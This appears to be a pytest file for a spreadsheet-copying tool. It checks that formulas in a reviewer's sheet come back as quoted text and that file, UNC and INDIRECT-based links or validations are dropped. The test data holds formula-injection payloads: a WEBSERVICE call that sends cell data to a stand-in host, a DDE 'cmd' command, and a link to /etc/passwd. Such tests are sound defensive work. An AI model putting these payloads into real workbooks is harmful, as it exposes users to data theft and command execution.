"""A sheet that a reviewer added comes back with its words; its formulas come back as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.datavalidation import DataValidation

from yoy.model import Review
from yoy.writers.excel.book.own_sheets import add_own_sheets


def carried(book: Workbook) -> Workbook:
    stream = io.BytesIO()
    book.save(stream)
    made = Workbook()
    review = Review(name="x.xlsx", sha256="", remarks=(), sheets=("我的",), content=stream.getvalue())
    add_own_sheets(made, review)
    again = io.BytesIO()
    made.save(again)
    return load_workbook(again)


def own() -> Workbook:
    book = Workbook()
    book.create_sheet("我的")
    return book


@pytest.mark.parametrize(
    "formula",
    ["=1+1", '=WEBSERVICE("http://x.example/?"&A2)', "=cmd|' /C calc'!A0", '=HYPERLINK("file://x","y")'],
)
def test_formulas_come_back_as_text(formula: str) -> None:
    book = own()
    book["我的"]["A1"] = formula
    cell = carried(book)["我的"]["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


def test_words_and_numbers_come_back() -> None:
    book = own()
    book["我的"]["A1"], book["我的"]["B2"] = "核对", 12.5
    sheet = carried(book)["我的"]
    assert (sheet["A1"].value, sheet["B2"].value) == ("核对", 12.5)


@pytest.mark.parametrize(
    ("target", "kept"),
    [
        ("https://x.example/", True),
        ("file:///etc/passwd", False),
        (r"\\server\share", False),
        ("//server/x", False),
    ],
)
def test_links_out_of_the_web_do_not_come_back(target: str, *, kept: bool) -> None:
    book = own()
    book["我的"]["A1"] = "见"
    book["我的"]["A1"].hyperlink = target
    assert (carried(book)["我的"]["A1"].hyperlink is not None) is kept


@pytest.mark.parametrize(("formula", "kept"), [('"是,否"', 1), ("$A$1:$A$9", 1), ('INDIRECT("x")', 0)])
def test_drop_downs_that_reckon_do_not_come_back(formula: str, kept: int) -> None:
    book = own()
    book["我的"].add_data_validation(DataValidation(type="list", formula1=formula, sqref="A1"))
    assert len(carried(book)["我的"].data_validations.dataValidation) == kept
